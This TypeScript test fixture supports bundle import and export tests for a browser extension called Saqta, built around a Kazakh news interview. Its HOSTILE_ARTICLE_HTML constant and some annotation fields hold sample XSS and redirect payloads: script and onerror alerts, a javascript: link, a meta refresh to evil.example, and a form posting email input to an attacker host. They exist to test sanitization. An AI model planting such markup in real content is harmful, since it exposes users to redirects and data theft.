/** Shared by the bundle tests and scripts/make-hostile-bundles.ts: a small real library and its export. */
import { Blob as NodeBlob } from 'node:buffer';
import { SaqtaDB } from '../../utils/db';
import { createAnnotation } from '../../utils/store/annotations';
import { pageKeys } from '../../utils/url';
import { sha256Hex } from '../../utils/bundle/read';
import { writeBundle } from '../../utils/bundle/write';
import { concatBytes as concat } from '../../utils/zip/read';
import { collectArticles, selectionPages, type Selection } from '../../utils/export/collect';

/** A saved article copy as the save feature stores it (already sanitized: no scripts, no handlers). */
export const ARTICLE_HTML = `<h1>«Мақсат – кінәлау емес». Роза Ақылбековамен сұхбат</h1>
<p>Қазақстан президенті Қасым-Жомарт Тоқаев Бельгияға екі күндік сапармен барып, Еуроодақ басшыларымен кездесті.</p>
<p>Роза Ақылбекова: <em>«Біздің мақсатымыз – кінәлау емес»</em>, деді.</p>
<img src="https://cdn.example/x.png">`;

/** The same article as a doctored bundle would carry it: everything that runs, navigates or posts. */
export const HOSTILE_ARTICLE_HTML = `<!doctype html><html><head><title>Сұхбат</title><meta http-equiv="refresh" content="0;url=https://evil.example/"><script>alert(1)</script></head><body>
<h1>«Мақсат – кінәлау емес». Роза Ақылбековамен сұхбат</h1>
<p>Қазақстан президенті Қасым-Жомарт Тоқаев Бельгияға екі күндік сапармен барып, Еуроодақ басшыларымен кездесті.</p>
<p>Роза Ақылбекова: <em>«Біздің мақсатымыз – кінәлау емес»</em>, деді. <a href="javascript:alert(3)">Толығырақ</a></p>
<img src="https://cdn.example/x.png" onerror="alert(2)">
<form action="https://evil.example/collect" method="post"><input name="email"><button>Жіберу</button></form>
</body></html>`;

export async function seedLibrary(name = `lib-${Math.random()}`): Promise<SaqtaDB> {
  const db = new SaqtaDB(name);
  const kk = { keys: pageKeys('https://www.azattyq.org/a/33000001.html'), title: '«Мақсат – кінәлау емес». Роза Ақылбековамен сұхбат', lang: 'kk', siteName: 'Азаттық радиосы' };
  const en = { keys: pageKeys('https://news.example/story?id=7'), title: 'Story <script>alert(1)</script>', lang: 'en' };
  const q = (exact: string, prefix = '', suffix = '') => [{ type: 'TextQuoteSelector' as const, exact, prefix, suffix }];
  const a = await createAnnotation(db, kk, q('Қасым-Жомарт Тоқаев Бельгияға екі күндік сапармен', 'президенті ', ' барып'), { tags: ['Еуроодақ', 'сапар'], note: 'Check: 22–23 June', color: 'green' });
  await createAnnotation(db, kk, q('Біздің мақсатымыз – кінәлау емес', '«', '»'), { tags: ['дәйексөз'], note: '', color: 'yellow' });
  await createAnnotation(db, en, q('a claim'), { tags: ['<b>bold</b>'], note: '<img src=x onerror=alert(1)>', color: 'pink' });
  const html = new TextEncoder().encode(ARTICLE_HTML);
  const png = new Uint8Array([137, 80, 78, 71, 13, 10, 26, 10, 0, 0, 0, 13]);
  const pageId = a.page.id;
  const cap = { id: 'urn:uuid:00000000-0000-4000-8000-0000000000c1', pageId, url: a.page.url, finalUrl: a.page.url, capturedAt: '2026-06-24T11:12:00.000Z', browser: 'Chromium 140', extensionVersion: '0.1.0', artifacts: [
    { kind: 'article' as const, blobId: 'blob-article', sha256: sha256Hex(html), size: html.length, mime: 'text/html' },
    { kind: 'screenshot' as const, blobId: 'blob-shot', sha256: sha256Hex(png), size: png.length, mime: 'image/png' },
  ] };
  await db.captures.add(cap);
  await db.blobs.add({ id: 'blob-article', pageId, captureId: cap.id, kind: 'article', sha256: cap.artifacts[0]!.sha256, size: html.length, mime: 'text/html', data: new NodeBlob([html], { type: 'text/html' }) as unknown as Blob });
  await db.blobs.add({ id: 'blob-shot', pageId, captureId: cap.id, kind: 'screenshot', sha256: cap.artifacts[1]!.sha256, size: png.length, mime: 'image/png', data: new NodeBlob([png], { type: 'image/png' }) as unknown as Blob });
  await db.pages.update(pageId, { savedAt: cap.capturedAt });
  return db;
}

export async function exportBytes(db: SaqtaDB, sel: Selection = { kind: 'all' }, created = new Date('2026-06-25T08:00:00Z')): Promise<Uint8Array> {
  const { pageIds, only } = await selectionPages(db, sel);
  const chunks: Uint8Array[] = [];
  await writeBundle(collectArticles(db, pageIds, only), { title: 'Test bundle', created, id: 'urn:uuid:00000000-0000-4000-8000-00000000b0d1', software: 'Saqta 0.1.0 (test)', total: pageIds.length }, (c) => {
    chunks.push(c);
  });
  return concat(chunks);
}

/** Everything in a library in a stable, comparable form (the "DB unchanged" check). */
export async function dump(db: SaqtaDB): Promise<string> {
  const sortById = <T extends { id: string }>(xs: T[]) => xs.sort((a, b) => a.id.localeCompare(b.id));
  const blobs = await Promise.all(
    sortById(await db.blobs.toArray()).map(async (b) => ({ ...b, data: sha256Hex(new Uint8Array(await (b.data as Blob).arrayBuffer())) })),
  );
  return JSON.stringify({
    pages: sortById(await db.pages.toArray()),
    annotations: sortById(await db.annotations.toArray()),
    tags: sortById(await db.tags.toArray()),
    captures: sortById(await db.captures.toArray()),
    blobs,
  });
}

let jsdomWindow: (Window & typeof globalThis) | undefined;
/** A DOM for Node tests that import or verify bundles (saved HTML is sanitized with DOMPurify in it), as scripts/verify.ts does. */
export async function htmlWindow(): Promise<Window & typeof globalThis> {
  if (!jsdomWindow) {
    const { JSDOM } = await import('jsdom');
    jsdomWindow = new JSDOM('').window as unknown as Window & typeof globalThis;
  }
  return jsdomWindow;
}
